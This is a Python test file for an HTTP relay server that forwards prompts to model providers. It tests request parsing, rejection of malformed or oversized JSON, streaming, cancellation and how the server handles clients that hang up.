    model = "some-people/A_Model-with%20a-long.name/" + "q" * 400
    head = parse_head(b"GET /v1/models/%s HTTP/1.1\r\nHost: x\r\n" % model.encode())
    assert find(head.path)[1] == (model.replace("%20", " "),)


def test_a_body_may_begin_with_a_byte_order_mark():
    assert neuroengine_server.parse_json('\ufeff{"a": "\ufeff"}'.encode()) == {"a": "\ufeff"}


@pytest.mark.parametrize("depth", [98, 100, 102, 5000])
def test_the_depth_of_json_is_measured_exactly(depth):
    for opening, closing in ((b"[", b"]"), (b'{"a":', b"}"), (b'[{"a":', b"}]")):
        half = depth // len(closing)
        body = opening * half + b'"' + b"\\\"[{" * 9 + b'"' + closing * half
        assert neuroengine_server.too_deep(body) == (half * len(closing) > 100)
    assert neuroengine_server.too_deep(b"[" * 99 + b'{"a":[]}' + b"]" * 99)


def test_a_good_head_is_read_whole():
    head = parse_head(GOOD_HEAD + b"Content-Length: 12\r\nX-A:  b \r\nx-a: c\r\n")
    assert (head.method, head.length, head.fields["x-a"]) == ("POST", 12, "b, c")
    assert head.keep_alive
    assert not parse_head(GOOD_HEAD + b"Content-Length: 0\r\nConnection: a, Close\r\n").keep_alive


def test_random_bytes_are_refused_and_nothing_else_happens():
    choose = random.Random(1)
    parts = [b"GET", b"POST", b" ", b"/", b"a", b"HTTP/1.1", b"\r\n", b"\r", b"\n", b":",
             b"Host: x", b"Content-Length: ", b"5", b"Transfer-Encoding: chunked", b"\xff",
             b"\x00", b"%", b"%2", b"://", b"Connection: close", b"Expect: "]
    for _ in range(20000):
        data = b"".join(choose.choice(parts) for _ in range(choose.randrange(14)))
        with contextlib.suppress(RelayError):
            parse_head(data)


##############################################################################
# Relay, over sockets
##############################################################################


def name_of(prefix="S"):
    return prefix + uuid.uuid4().hex[:12]


@contextlib.contextmanager
def running_relay(**kw):
    relay = Relay("127.0.0.1", 0, page=neuroengine_server.read_page(), **kw)
    relay.start()
    try:
        yield relay
    finally:
        relay.stop()


@pytest.fixture(scope="session")
def relay():
    """One for all tests that need no other. Its times are the usual ones, so that none of
    them passes while a test is held up; and its directory is always new."""
    neuroengine_server.DIRECTORY_SHARE = 0
    with running_relay(limits=Limits(max_request_bytes=1 << 20)) as relay:
        yield relay


def ask(relay, path, body=None, method=None, timeout=SOON, **headers):
    """One request by the standard library: (status, JSON or bytes, headers)."""
    connection = http.client.HTTPConnection(*relay.server_address[:2], timeout=timeout)
    headers = {name.replace("_", "-"): value for name, value in headers.items()}
    if not isinstance(body, (bytes, type(None))):
        body = json.dumps(body).encode()
    with contextlib.closing(connection):
        connection.request(method or ("GET" if body is None else "POST"), path, body,
                           headers)
        response = connection.getresponse()
        data = response.read()
        if response.headers.get("Content-Type") == "application/json":
            data = json.loads(data)
        return response.status, data, response.headers


def raw(relay, data, timeout=SOON):
    """Send bytes, and return all that comes back until the relay closes."""
    with socket.create_connection(relay.server_address[:2], timeout) as sock:
        sock.sendall(data)
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: sock.recv(65536), b""))


def sent(relay, path, body, **headers):
    """Send a request, and return the socket to read the answer from."""
    sock = socket.create_connection(relay.server_address[:2], SOON)
    body = json.dumps(body).encode()
    lines = "".join("%s: %s\r\n" % (k.replace("_", "-"), v) for k, v in headers.items())
    sock.sendall(("POST %s HTTP/1.1\r\nHost: localhost\r\n%sContent-Length: %d\r\n\r\n"
                  % (path, lines, len(body))).encode() + body)
    return sock


class Hand:
    """A provider in the test's hands: it does what the test says, when it says so."""

    def __init__(self, relay, workers=1, **features):
        self.relay, self.name = relay, name_of()
        _, answer, _ = ask(relay, "/api/services", {"name": self.name})
        self.key = answer["key"]
        # One connection: a relay takes its closing for the provider's end.
        self.connection = http.client.HTTPConnection(*relay.server_address[:2], timeout=30)
        self.session = self.call("login", workers=workers, **features)["session"]
        self.running = []

    def call(self, action, **body):
        self.connection.request("POST", "/provider/%s/%s" % (self.name, action),
                                json.dumps(body), {"Authorization": "Bearer " + self.key})
        response = self.connection.getresponse()
        answer = json.loads(response.read())
        assert response.status == 200, answer
        return answer

    def poll(self):
        answer = self.call("poll", session=self.session, running=self.running)
        self.running += [[job["job"], job["attempt"]] for job in answer["jobs"]]
        return answer

    def next_job(self):
        deadline = time.monotonic() + patient(60)
        while time.monotonic() < deadline:
            jobs = self.poll()["jobs"]
            if jobs:
                return jobs[0]
        raise AssertionError("no job came")

    def reply(self, job, items=(), at=0, **kw):
        if kw.get("done") or kw.get("error"):
            self.running.remove([job["job"], job["attempt"]])
        return self.call("reply", session=self.session, replies=[dict(
            kw, job=job["job"], attempt=job["attempt"], at=at, items=list(items))])

    def logout(self):
        self.call("logout", session=self.session)
        self.connection.close()


@pytest.fixture
def hand(relay):
    hand = Hand(relay)
    yield hand
    with contextlib.suppress(AssertionError):
        hand.logout()


def in_thread(function, *args, **kw):
    """Run it in a thread; the returned function waits for what it returned."""
    result = []
    thread = threading.Thread(target=lambda: result.append(function(*args, **kw)),
                              daemon=True)
    thread.start()

    def wait():
        thread.join(patient(10))
        assert result, "it did not return"
        return result[0]
    return wait


def test_a_native_prompt_is_answered_whole(relay, hand):
    for path in ("/" + hand.name, "/%s/" % hand.name.upper()):
        answer = in_thread(ask, relay, path, {"message": "hi"})
        job = hand.next_job()
        assert job["request"] == {"message": "hi"}
        hand.reply(job, ["Hel", "lo"], done=True)
        status, body, _ = answer()
        assert status == 200
        assert (body["reply"], body["errorcode"]) == ("Hello", 0)
        assert body["stats"]["tokens"] == 2


def test_every_field_reaches_the_provider_and_control_fields_do_not(relay, hand):
    fields = {"message": "hi", "temperature": 0.5, "top_p": 0.8, "top_k": 7, "min_p": 0.1,
              "repetition_penalty": 1.3, "max_new_len": 9, "seed": 3, "raw": "False",
              "something": {"else": [1]}}
    answer = in_thread(ask, relay, "/" + hand.name, dict(
        fields, gettokens=5, key="", api="chat", reply_so_far="x", opaque=True))
    job = hand.next_job()
    assert job["request"] == fields              # nor what is the relay's own to say
    hand.reply(job, ["x"], done=True)
    answer()


BAD_NATIVE = [
    (b"{", 400, "invalid_json"), (b"[1]", 400, "invalid_json"), (b"", 400, "invalid_json"),
    (b'{"message":"x"}{}', 400, "invalid_json"), (b'{"message":"x"}\0', 400, "invalid_json"),
    (b' \r\n\t{"command":"nosuch"}\n ', 400, "invalid_request"),
    (b'"x"', 400, "invalid_json"), (b"\xff", 400, "invalid_json"),
    (b"[" * 100000, 400, "invalid_json"),
    (b'{"message":' + b"[" * 9000 + b"]" * 9000 + b"}", 400, "invalid_json"),
    (b'{"message":' + b'{"a":' * 9000 + b"1" + b"}" * 9000 + b"}", 400, "invalid_json"),
    (b'{"message":[' + b"{}," * 200001 + b"1]}", 400, "invalid_json"),
    (b'{"message":"x","foo":1e999}', 400, "invalid_json"), (b'{"a":NaN}', 400, "invalid_json"),
    (b'{"message":"x","a":[' + b'"",' * 200001 + b'""]}', 400, "invalid_json"),
    (b'{"message":"x","seed":' + b"9" * 5000 + b"}", 400, None),
    ({}, 400, "invalid_request"), ({"message": 5}, 400, "invalid_request"),
    ({"message": None}, 400, "invalid_request"), ({"messages": []}, 400, "invalid_request"),
    ({"messages": [1]}, 400, "invalid_request"),
    ({"messages": [{"role": "user", "content": 3}]}, 400, "invalid_request"),
    ({"message": "x", "temperature": -1}, 400, "invalid_request"),
    ({"message": "x", "temperature": "hot"}, 400, "invalid_request"),
    ({"message": "x", "temperature": True}, 400, "invalid_request"),
    (b'{"message":"x","temperature":1e400}', 400, "invalid_json"),
    ({"message": "x", "max_new_len": 0}, 400, "invalid_request"),
    ({"message": "x", "max_new_len": 1.5}, 400, "invalid_request"),
    ({"message": "x", "seed": 10**90}, 400, "invalid_request"),
    ({"message": "x", "seed": 10**400}, 400, "invalid_json"),
    ({"message": "x", "top_k": [1]}, 400, "invalid_request"),
    ({"message": "x", "raw": "maybe"}, 400, "invalid_request"),
    ({"message": "x", "key": 5}, 400, "invalid_request"),
    ({"message": "x", "gettokens": 0}, 400, "invalid_request"),
    ({"message": "x", "stream": "yes"}, 400, "invalid_request"),
    ({"message": "x", "n": 50}, 400, "invalid_request"),
    ({"command": "dance"}, 400, "invalid_request"),
    ({"command": "cancel", "key": "nosuch"}, 404, "stream_unknown"),
    ({"key": "nosuch", "at": 0}, 404, "stream_unknown"),
    (b'{"message":"' + b"x" * (1 << 20) + b'"}', 413, "request_too_large"),
]


@pytest.mark.parametrize("body, status, error", BAD_NATIVE,
                         ids=[str(n) for n in range(len(BAD_NATIVE))])
def test_bad_input_gets_a_clear_error_and_harms_no_one(relay, hand, body, status, error):
    got, answer, _ = ask(relay, "/" + hand.name, body)
    assert got == status
    assert error is None or answer["error"] == error
    assert answer["reply"] and answer["errorcode"] == \
        neuroengine_server.ERRORS[answer["error"]][0]
    assert ask(relay, "/healthz")[0] == 200


@pytest.mark.parametrize("path, method, status, error", [
    ("/nosuch", "POST", 404, "service_unknown"), ("/v1", "POST", 400, "invalid_name"),
    ("/-bad", "POST", 400, "invalid_name"), ("/" + "a" * 65, "POST", 400, "invalid_name"),
    ("/a/b/c/d/e", "POST", 404, "not_found"), ("/nosuch", "PUT", 405, "method_not_allowed"),
    ("/healthz", "DELETE", 405, "method_not_allowed"),
    ("/api/services/nosuch", "GET", 404, "service_unknown"),
    ("/provider/nosuch/poll", "POST", 404, "service_unknown"),
    ("/", "POST", 400, "invalid_request"), ("/api/services/*", "GET", 404, "not_found"),
    ("/provider/*/poll", "POST", 404, "not_found"),
])
def test_unknown_paths_names_and_methods_have_their_own_errors(relay, path, method, status, error):
    got, answer, headers = ask(relay, path, {"message": "x"}, method)
    assert (got, answer["error"]) == (status, error)
    assert status != 405 or headers["Allow"]


def test_allow_lists_all_methods_that_are_answered(relay):
    for path, method, allow in (("/healthz", "PUT", "GET, HEAD, OPTIONS"),
                                ("/v1/completions", "PUT", "POST, OPTIONS"),
                                ("/api/models", "OPTIONS", "GET, HEAD, OPTIONS")):
        assert ask(relay, path, None, method)[2]["Allow"] == allow


def test_a_polled_stream_gives_its_tokens_in_turn_and_then_nothing_more(relay, hand):
    body = {"message": "hi", "key": uuid.uuid4().hex, "gettokens": 2}
    first = in_thread(ask, relay, "/" + hand.name, body)
    job = hand.next_job()
    hand.reply(job, list("abc"))
    assert first()[1]["reply"] == "ab"
    hand.reply(job, ["d"], at=3, done=True)
    assert ask(relay, "/" + hand.name, body)[1]["reply"] == "cd"
    for _ in range(2):
        answer = ask(relay, "/" + hand.name, body)[1]
        assert answer["reply"] == "" and answer["errorcode"] == 0


def test_a_polled_read_with_a_position_repeats(relay, hand):
    body = {"message": "hi", "key": uuid.uuid4().hex, "gettokens": 2}
    first = in_thread(ask, relay, "/" + hand.name, dict(body, at=0))
    job = hand.next_job()
    hand.reply(job, list("abcd"), done=True)
    assert first()[1]["reply"] == "ab"
    for _ in range(2):
        answer = ask(relay, "/" + hand.name, dict(body, at=2))[1]
        assert (answer["reply"], answer["at"]) == ("cd", 4)


def test_a_polled_read_returns_a_second_after_the_first_token(relay, hand):
    began = time.monotonic()
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "hi", "key": name_of()})
    hand.reply(hand.next_job(), ["one"])
    assert answer()[1]["reply"] == "one"
    assert 0.9 < time.monotonic() - began < patient(5)


def test_a_long_wait_for_the_first_token_says_still_waiting():
    with running_relay(limits=Limits(wait_seconds=0.1)) as relay:
        hand = Hand(relay)
        status, answer, _ = ask(relay, "/" + hand.name, {"message": "hi", "key": "k"})
        assert status == 202 and answer["error"] == "still_waiting" and answer["errorcode"]
        hand.logout()


def test_reasoning_alone_does_not_end_a_polled_stream(relay, hand):
    body = {"message": "hi", "key": name_of(), "gettokens": 2}
    answer = in_thread(ask, relay, "/" + hand.name, body)
    job = hand.next_job()
    hand.reply(job, [{"reasoning": "hm"}] * 30 + ["a", "b"])
    assert answer()[1]["reply"] == "ab"


def records_of(sock):
    """The NDJSON records of a chunked response, as they come."""
    response = http.client.HTTPResponse(sock)
    response.begin()
    assert response.status == 200, response.read()
    for line in iter(response.readline, b""):
        yield json.loads(line)


def test_a_stream_brings_items_and_heartbeats_and_a_last_record():
    with running_relay(limits=Limits(heartbeat_seconds=0.1)) as relay:
        hand = Hand(relay)
        with contextlib.closing(sent(relay, "/" + hand.name,
                                     {"message": "x", "stream": True})) as sock:
            job = hand.next_job()
            hand.reply(job, ["a"])
            records = records_of(sock)
            assert next(r for r in records if r) == {"at": 0, "items": ["a"]}
            assert next(records) == {}
            hand.reply(job, ["b", {"finish_reason": "stop"}], at=1, done=True)
            assert [r for r in records if r][:1] == [
                {"at": 1, "items": ["b", {"finish_reason": "stop"}]}]
        hand.logout()


@pytest.mark.skipif(os.name != "posix", reason="elsewhere each stream's own thread writes")
@pytest.mark.parametrize("path", ["/%s", "/%s/v1/chat/completions"])
def test_a_slow_reader_gets_every_item_in_order(
        relay, hand, monkeypatch, path):
    left = []
    monkeypatch.setattr(relay.broker, "wake_owner", lambda reader, own=relay.broker
                        .wake_owner: (left.append(reader), own(reader)))
    body = {"message": "x", "messages": [{"role": "user", "content": "x"}], "stream": True}
    if "v1" not in path:
        del body["messages"]
    sock = sent(relay, path % hand.name, body)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
    job, count = hand.next_job(), 0
    while not left or count < 1000:        # until the kernel takes no more, and further
        hand.reply(job, ["%06d" % n + "." * 5000 for n in range(count, count + 50)], count)
        count += 50
    hand.reply(job, at=count, done=True)
    data = b""
    while not data.endswith(b"\r\n0\r\n\r\n"):
        part = sock.recv(1 << 20)
        assert part
        data += part
    sock.close()
    assert re.findall(rb"(\d{6})\.{5000}", data) == [b"%06d" % n for n in range(count)]
    assert b'"done":true' in data or b"[DONE]" in data


def test_a_stream_is_resumed_by_key_and_position_without_its_prompt(relay, hand):
    key = name_of()
    sock = sent(relay, "/" + hand.name, {"message": "x", "stream": True, "key": key})
    job = hand.next_job()
    hand.reply(job, ["a", "b"])
    assert next(records_of(sock))["items"] == ["a", "b"]
    sock.close()
    hand.reply(job, ["c"], at=2, done=True)
    with contextlib.closing(sent(relay, "/" + hand.name, {
            "stream": True, "key": key, "at": 1})) as sock:
        records = list(records_of(sock))
    assert records[0] == {"at": 1, "items": ["b", "c"]} and records[-1]["done"] is True


def test_a_queued_stream_gets_its_queue_position(relay, hand):
    with contextlib.closing(sent(relay, "/" + hand.name, {"message": "x"})):
        hand.next_job()
        with contextlib.closing(sent(relay, "/" + hand.name, {
                "message": "y", "stream": True})) as sock:
            records = records_of(sock)
            assert next(records)["queue"] == {"position": 1, "waiting": 1, "eta_s": None,
                                              "connected": True}
            hand.reply({"job": hand.running[0][0], "attempt": 1}, ["x"], done=True)
            assert next(record for record in records if record) == {"queue": None}


def test_a_push_sends_no_more_than_may_stay_unsent_without_being_counted(desk, stream):
    """60 KB for each of 1,200 slow readers: 53 MB, or 97 if they were escapes."""
    outlet, push = stream
    push(["x" * 10000])
    assert outlet.connection.sent and not outlet.reader.has_work
    outlet.connection.sent.clear()
    push(["x" * 20000], at=1)
    assert not outlet.connection.sent and outlet.reader.has_work


def test_a_prompt_that_left_the_queue_is_soon_said_to(desk):
    """It may leave after its thread has looked, and before that decides how long to wait."""
    session, exchange = desk.login(), FakeExchange(desk.broker, FakeConnection())
    outlet = neuroengine_server.StreamOutlet(exchange, desk.submit(), Upper())
    outlet.wrote_at = desk.time
    outlet.send_next(may_block=True)
    assert outlet.queue_position["position"] == 1
    desk.poll(session)
    assert outlet._patience() == neuroengine_server.QUEUE_NEWS_SECONDS
    outlet.send_next(may_block=True)
    assert outlet.queue_position is None and outlet._patience() > 8


def test_an_error_before_the_first_item_has_its_status(relay, hand):
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x", "stream": True})
    hand.reply(hand.next_job(), error={"error": "provider_error", "message": "no\r\nluck"})
    status, body, _ = answer()
    assert status == 502 and body["error"] == "provider_error"
    assert body["reply"] == "The provider could not answer: no luck."


def test_an_error_after_the_first_item_is_the_last_record(relay, hand):
    with contextlib.closing(sent(relay, "/" + hand.name,
                                 {"message": "x", "stream": True})) as sock:
        job = hand.next_job()
        hand.reply(job, ["a"])
        records = records_of(sock)
        assert next(records)["items"] == ["a"]
        hand.reply(job, at=1, error="boom")
        assert [r for r in records if r][-1]["error"] == "provider_error"


@pytest.mark.parametrize("item", [
    5, None, ["x"], {"usage": "x"}, {"tool_calls": "abc"}, {"tool_calls": [5]},
    {"tool_calls": [{"function": 5}]}, {"tool_calls": [{"function": {"name": 5}}]},
    {"result": 5}, {"reasoning": 5}, {"finish_reason": {}}], ids=repr)
def test_an_item_of_no_known_form_is_an_error_for_its_client(relay, hand, item):
    answer = in_thread(chat, relay, hand.name)
    hand.reply(hand.next_job(), [item], done=True)
    assert answer()[1]["error"]["code"] == "provider_error"


def test_malformed_errors_and_counts_of_a_provider_do_no_harm(relay, hand):
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
    hand.reply(hand.next_job(), error={"error": [], "message": {}})
    assert answer()[1]["error"] == "provider_error"
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x", "stream": True})
    hand.reply(hand.next_job(), ["x", {"result": None, "usage": {
        "completion_tokens": 10**90}}], done=True)
    assert json.loads(answer()[1].split(b"\n")[-2])["stats"]["tokens"] == 1


def test_brackets_within_texts_are_not_nesting(relay, hand):
    text = '[{"\\' * 500
    answer = in_thread(ask, relay, "/" + hand.name, {"message": text, "x": [[[1]]]})
    job = hand.next_job()
    assert job["request"]["message"] == text
    hand.reply(job, ["x"], done=True)
    answer()


def test_half_a_surrogate_pair_becomes_a_question_mark(relay, hand):
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
    hand.reply(hand.next_job(), ["a\ud800", "\u2603"], done=True)
    assert answer()[1]["reply"] == "a?\u2603"


def test_a_failed_polled_stream_reports_its_error_once_without_offsets(relay, hand):
    body = {"message": "x", "key": name_of()}
    first = in_thread(ask, relay, "/" + hand.name, body)
    hand.reply(hand.next_job(), error="boom")
    assert first()[0] == 502
    status, answer, _ = ask(relay, "/" + hand.name, body)
    assert (status, answer["reply"], answer["errorcode"]) == (200, "", 0)
    assert ask(relay, "/" + hand.name, dict(body, at=0))[0] == 502


def until_left(relay, job):
    readers = relay.broker._jobs[job["job"]].readers
    until(lambda: not readers, 1)


@pytest.mark.parametrize("path, body", [
    ("", {"message": "x"}), ("", {"message": "x", "stream": True}),
    ("", {"message": "x", "key": "k"})])
def test_a_client_that_hangs_up_is_noticed_within_a_second(path, body):
    with running_relay(limits=Limits(grace_seconds=0.6)) as relay:
        hand = Hand(relay)
        sock = sent(relay, "/" + hand.name, body)
        job = hand.next_job()
        time.sleep(0.3)                    # its own thread waits elsewhere; either must do
        sock.close()
        began = time.monotonic()
        until_left(relay, job)
        while not hand.poll()["cancel"]:   # after the grace time
            pass
        assert 0.5 < time.monotonic() - began < patient(4)
        hand.logout()


def test_through_v1_a_client_that_hangs_up_cancels_at_once(relay, hand):
    for stream in (False, True):
        sock = sent(relay, "/v1/chat/completions", {
            "model": hand.name, "stream": stream,
            "messages": [{"role": "user", "content": "x"}]})
        job = hand.next_job()
        sock.close()
        began = time.monotonic()
        assert [job["job"], job["attempt"]] in hand.poll()["cancel"]
        assert time.monotonic() - began < patient(1)
        hand.reply(job, error="cancelled")


def test_cancel_works_at_once_and_twice(relay, hand):
    key = name_of()
    with contextlib.closing(sent(relay, "/" + hand.name, {
            "message": "x", "stream": True, "key": key})) as sock:
        job = hand.next_job()
        for _ in range(2):
            assert ask(relay, "/" + hand.name, {"command": "cancel", "key": key})[0] == 200
        assert hand.poll()["cancel"] == [[job["job"], 1]]
        response = http.client.HTTPResponse(sock)
        response.begin()
        assert response.status == 409
        assert json.loads(response.read())["error"] == "cancelled"


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("wait", [0, 0.3])
def test_a_client_that_reconnects_at_once_gets_the_job_it_left(relay, hand, stream, wait):
    body, jobs = {"message": "x", "stream": stream}, relay.broker.counts["jobs"]
    sock = sent(relay, "/" + hand.name, body)
    job = hand.next_job()
    first, = readers = relay.broker._jobs[job["job"]].readers
    time.sleep(wait)
    sock.close()
    answer = in_thread(ask, relay, "/" + hand.name, body)
    until(lambda: readers and readers != [first])
    hand.reply(job, ["done"], done=True)
    assert b"done" in (answer()[1] if stream else answer()[1]["reply"].encode())
    assert relay.broker.counts["jobs"] == jobs + 1


def test_a_duplicate_prompt_looks_for_hang_ups_first(relay, hand, monkeypatch):
    look = relay.hang_ups.look              # the watcher's own thread is always too late
    monkeypatch.setattr(relay.hang_ups, "look", lambda: (
        sys._getframe(1).f_code.co_name == "run" or look()))
    body = {"message": "x", "stream": True}    # whose thread does not read
    sock = sent(relay, "/" + hand.name, body)
    job = hand.next_job()
    first, = readers = relay.broker._jobs[job["job"]].readers
    sock.close()
    answer = in_thread(ask, relay, "/" + hand.name, body)
    until(lambda: readers and readers != [first])
    hand.reply(job, ["done"], done=True)
    assert b"done" in answer()[1]


def test_a_hang_up_after_the_answer_counts_as_delivered(relay, hand,
                                                                         monkeypatch):
    leave = relay.broker.leave
    monkeypatch.setattr(relay.broker, "leave", lambda *args: (time.sleep(0.1), leave(*args)))
    for stream in (False, False, True, True):
        answer = in_thread(ask, relay, "/" + hand.name, {"message": "x", "stream": stream})
        until(lambda: hand.poll()["jobs"] or hand.running, 1)    # a new one
        hand.reply(dict(zip(("job", "attempt"), hand.running[0])), ["x"], done=True)
        assert answer()[0] == 200
    polled = {"message": "y", "key": name_of(), "gettokens": 5}
    first = in_thread(ask, relay, "/" + hand.name, polled)
    hand.reply(hand.next_job(), "abcdefghij", done=True)
    assert first()[1]["reply"] == "abcde"
    assert ask(relay, "/" + hand.name, polled)[1]["reply"] == "fghij"


def test_a_hang_up_behind_early_bytes_is_noticed_within_a_second(relay, hand):
    for stream in (False, True):
        sock = sent(relay, "/" + hand.name, {"message": "x", "stream": stream})
        job = hand.next_job()
        time.sleep(0.3)
        sock.sendall(b"POST / HTTP/1.1\r\n")
        time.sleep(0.3)                    # until that is seen, whoever would look for it
        sock.close()
        until_left(relay, job)
        hand.reply(job, [], done=True)


def test_hang_ups_are_noticed_without_epoll(monkeypatch):
    monkeypatch.delattr(select, "EPOLLRDHUP", raising=False)
    with running_relay() as relay:
        hand = Hand(relay)
        for stream in (False, True):
            sock = sent(relay, "/" + hand.name, {"message": "x", "stream": stream})
            job = hand.next_job()
            time.sleep(0.3)
            assert relay.broker._jobs[job["job"]].readers
            sock.close()
            until_left(relay, job)
            hand.reply(job, [], done=True)


def test_a_client_that_gives_up_and_retries_five_times_causes_one_generation(relay, hand):
    body = json.dumps({"message": "slow"}).encode()
    for _ in range(4):
        connection = http.client.HTTPConnection(*relay.server_address[:2], timeout=0.2)
        connection.request("POST", "/" + hand.name, body)
        with pytest.raises(socket.timeout):
            connection.getresponse()
        connection.close()
    job = hand.next_job()
    readers = relay.broker._jobs[job["job"]].readers
    until(lambda: not readers)                 # the fourth has been seen to leave
    last = in_thread(ask, relay, "/" + hand.name, body)
    until(lambda: readers)
    hand.reply(job, ["done"], done=True)
    assert last()[1]["reply"] == "done"
    assert relay.broker.find(hand.name).numreq == 1


def test_two_prompts_sent_at_once_are_answered_one_after_the_other(relay, hand):
    with contextlib.closing(socket.create_connection(relay.server_address[:2], SOON)) as sock:
        body = b'{"message": "x"}'
        sock.sendall(b"POST /%s HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n%s"
                     % (hand.name.encode(), len(body), body) * 2)
        for text in ("first", "second"):
            hand.reply(hand.next_job(), [text], done=True)
            response = http.client.HTTPResponse(sock)
            response.begin()
            assert json.loads(response.read())["reply"] == text


def test_a_wrong_key_is_refused_before_the_body(relay, hand):
    for action in ("login", "poll", "reply", "logout"):
        with contextlib.closing(socket.create_connection(relay.server_address[:2],
                                                         SOON)) as sock:
            sock.sendall(b"POST /provider/%s/%s HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
                         b"Bearer wrong\r\nContent-Length: 900000000\r\n\r\n"
                         % (hand.name.encode(), action.encode()))
            assert sock.recv(100).startswith(b"HTTP/1.1 401"), action


def test_a_connection_that_is_to_be_closed_closes_with_its_answer(relay, hand, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "WHOLE_WAIT_SECONDS", 2 * SOON)
    body = {"message": "x"}
    with contextlib.closing(sent(relay, "/" + hand.name, body, connection="close")) as sock:
        hand.reply(hand.next_job(), ["a"], done=True)
        while sock.recv(65536):            # its time limit is SOON
            pass


@pytest.mark.parametrize("more", ({"stream": True}, {"gettokens": 9}))
def test_a_large_body_that_reads_on_delays_no_other_body(relay, hand, more):
    prompt = {"message": "x" * 100000, "key": "a key of the longer kind"}
    begun = sent(relay, "/" + hand.name, dict(prompt, stream=True))
    job = hand.next_job()
    hand.reply(job, ["a"])
    until(lambda: b'"a"' in begun.recv(9999))
    waiting = sent(relay, "/" + hand.name, dict(prompt, at=1, **more))
    until(lambda: len(relay.broker._jobs[job["job"]].readers) == 2)
    assert ask(relay, "/" + hand.name, {"message": 3, "more": "x" * 100000})[0] == 400
    hand.reply(job, done=True, at=1)
    begun.close(), waiting.close()


def test_large_answers_that_come_at_once_are_sent_at_once(relay, hand, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "WHOLE_WAIT_SECONDS", 2 * SOON)
    vectors = {"result": {"data": [{"embedding": [0.125] * 50000}]}}
    able = Hand(relay, embeddings=True)
    chat = {"model": hand.name, "messages": [{"role": "user", "content": "x"}]}
    for name, path, body, items in (
            (hand, "/" + hand.name, {"message": "x" * 300000}, ["y"]),
            (hand, "/" + hand.name, {"message": "x"}, ["many tokens "] * 2000),
            (hand, "/v1/chat/completions", chat, ["many tokens "] * 2000),
            (able, "/v1/embeddings", {"model": able.name, "input": "x"}, [vectors])):
        answer = in_thread(ask, relay, path, body)
        name.reply(name.next_job(), items, done=True)
        assert answer()[0] == 200
    able.logout()


def test_an_answered_prompt_frees_its_slot_at_once(relay, hand, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "WHOLE_WAIT_SECONDS", 2 * SOON)
    with contextlib.closing(sent(relay, "/" + hand.name, {"message": "x"})) as sock:
        hand.reply(hand.next_job(), ["a"], done=True)
        assert sock.recv(65536)            # and it keeps the connection
        until(lambda: relay.bounds.waiting.taken == 0)


@pytest.mark.parametrize("api, encoder", [
    ("", "NativeWhole"), ("/v1/chat/completions", "TextWhole")])
def test_an_answer_that_must_make_room_while_it_is_encoded_is_an_error(
        relay, hand, monkeypatch, api, encoder):
    whole = getattr(neuroengine_server, encoder).whole

    def late(self, job):
        with relay.broker._lock:
            relay.broker._empty_locked(job)
        return whole(self, job)
    monkeypatch.setattr(getattr(neuroengine_server, encoder), "whole", late)
    answer = in_thread(ask, relay, "/" + hand.name + api, {
        "messages": [{"role": "user", "content": "x"}]})
    hand.reply(hand.next_job(), ["x"], done=True)
    assert answer()[0] == 503 and "memory" in json.dumps(answer()[1])


def test_a_client_that_gives_way_takes_no_stream_from_another():
    with running_relay(limits=Limits(max_waiting=20, drain_seconds=0), proxies=(
            ipaddress.ip_network("127.0.0.0/8"),)) as relay:
        hand, streams = Hand(relay), []

        def jobs(key):
            return [job for job in list(relay.broker._jobs.values())
                    if job.identity.key[-1] == key]

        def stream(address, key, readers=1):
            streams.append(sent(relay, "/" + hand.name, {
                "message": "x", "stream": True, "key": key}, X_Forwarded_For=address))
            until(lambda: any(len(job.readers) == readers for job in jobs(key)))
            return streams[-1]
        for number in range(15):
            stream("5.5.5.5", "a stream key, the %dth" % number)
        stream("7.7.7.7", "a key that two know")
        crowded = stream("5.5.5.5", "a key that two know", readers=2)
        for number in range(3):
            stream("6.6.6.%d" % number, "another key, the %dth" % number)
        while crowded.recv(65536):         # until its connection is aborted
            pass
        job, = jobs("a key that two know")
        until(lambda: len(job.readers) == 1)
        assert job.error is None
        for sock in streams:
            sock.close()


def test_a_polled_stream_ends_after_job_seconds_even_if_each_read_finds_a_token():
    with running_relay(limits=Limits(job_seconds=1)) as relay:
        hand = Hand(relay)
        command = {"message": "x", "key": "k" * 20, "gettokens": 1}
        first = in_thread(ask, relay, "/" + hand.name, command)
        hand.reply(hand.next_job(), ["x"] * 10000)
        first()
        job, = relay.broker._jobs.values()
        until(lambda: ask(relay, "/" + hand.name, command)[1]["reply"] == "x" and job.error)
        assert job.error.name == "provider_timeout"


def test_a_provider_that_asks_for_its_connection_to_be_closed_is_not_lost_by_that(monkeypatch):
    with running_relay() as relay:
        hand, lost = Hand(relay), []
        monkeypatch.setattr(relay.broker, "poll_broken", lambda *poll: lost.append(poll))
        prompt = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
        job, = ask(relay, "/provider/%s/poll" % hand.name, {"session": hand.session},
                   Authorization="Bearer " + hand.key, Connection="close")[1]["jobs"]
        until(lambda: relay.bounds.connections.taken == 2)   # the client's and the login's
        assert not lost
        hand.running.append([job["job"], job["attempt"]])
        hand.reply(job, ["y"], done=True)
        assert prompt()[1]["reply"] == "y"


def test_a_polled_stream_names_its_error_even_after_the_response_that_told_it(relay, hand):
    command = {"message": "x", "key": "k" * 20, "gettokens": 9}
    first = in_thread(ask, relay, "/" + hand.name, command)
    hand.reply(hand.next_job(), error="out of memory")
    assert first()[1]["error"] == "provider_error"
    answer = ask(relay, "/" + hand.name, command)[1]
    assert answer["done"] and answer["errorcode"] == 0 and answer["error"] == "provider_error"


@pytest.mark.skipif(not hasattr(select, "EPOLLRDHUP"), reason="only Linux reports hang-ups")
def test_whoever_looks_for_hang_ups_waits_until_those_that_another_saw_are_reported():
    class Gone(contextlib.ExitStack):
        def hang_up(self):
            seen.set()
            assert go_on.wait(SOON)
            reported.append(self)
